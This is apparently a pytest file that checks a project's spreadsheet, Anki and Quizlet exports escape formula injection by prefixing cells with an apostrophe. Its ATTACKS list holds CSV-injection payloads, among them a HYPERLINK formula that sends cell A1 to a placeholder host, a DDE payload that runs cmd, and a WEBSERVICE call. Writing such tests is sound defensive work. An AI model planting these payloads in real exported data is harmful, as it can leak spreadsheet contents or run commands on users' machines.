"""Exports without formulas: a text that starts with = + - @ (or a tab or CR) stays text in every spreadsheet-like export."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from minplan.catalogue import load_content
from minplan.exchange.cells import plain_cell
from minplan.exchange.glossary_export import export_anki, export_quizlet
from minplan.exchange.kahoot import HEADER_ROW, kahoot_xlsx
from tests.conftest import ROOT

ATTACKS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klikk")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           '=WEBSERVICE("http://example.invalid")']


@pytest.mark.parametrize("text", ATTACKS + ["\tx", "\rx"])
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(text):
    assert plain_cell(text) == "'" + text
    assert plain_cell("Kvalifisering") == "Kvalifisering"


def test_the_kahoot_workbook_holds_the_texts_as_strings_and_no_formula():
    content = kahoot_xlsx([[1, text, "ja", "nei", "", "", 20, "1"] for text in ATTACKS], "Test")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = "".join(book.read(name).decode("utf-8") for name in book.namelist() if name.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml
    for text in ATTACKS:
        escaped = text.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&apos;")
        assert text.replace("&", "&amp;") in xml or escaped in xml, text
    assert f'r="B{HEADER_ROW + 1}"' in xml


def _attacked_term():
    term = next(iter(load_content(ROOT).glossary.values()))
    return term.model_copy(update={"word": {**term.word, "nb": ATTACKS[0]},
                                   "explanation": {**term.explanation, "nb": "@SUM(1,1)", "en": "-2+3"},
                                   "example": {**term.example, "nb": "=1+1"}})


def test_the_anki_csv_reads_back_with_no_cell_starting_a_formula():
    exported = export_anki([_attacked_term()], "en", "glossary.yaml")
    rows = [row for row in csv.reader(io.StringIO(exported.content.split("\n", 3)[3])) if row]
    assert rows[0][0] == "'" + ATTACKS[0] and rows[0][2] == "'@SUM(1,1)" and rows[0][4] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_quizlet_text_starts_no_side_with_a_formula():
    front, back = export_quizlet([_attacked_term()], "nb", "glossary.yaml").content.rstrip("\n").split("\t")
    assert front == "'" + ATTACKS[0] and back == "'@SUM(1,1)"
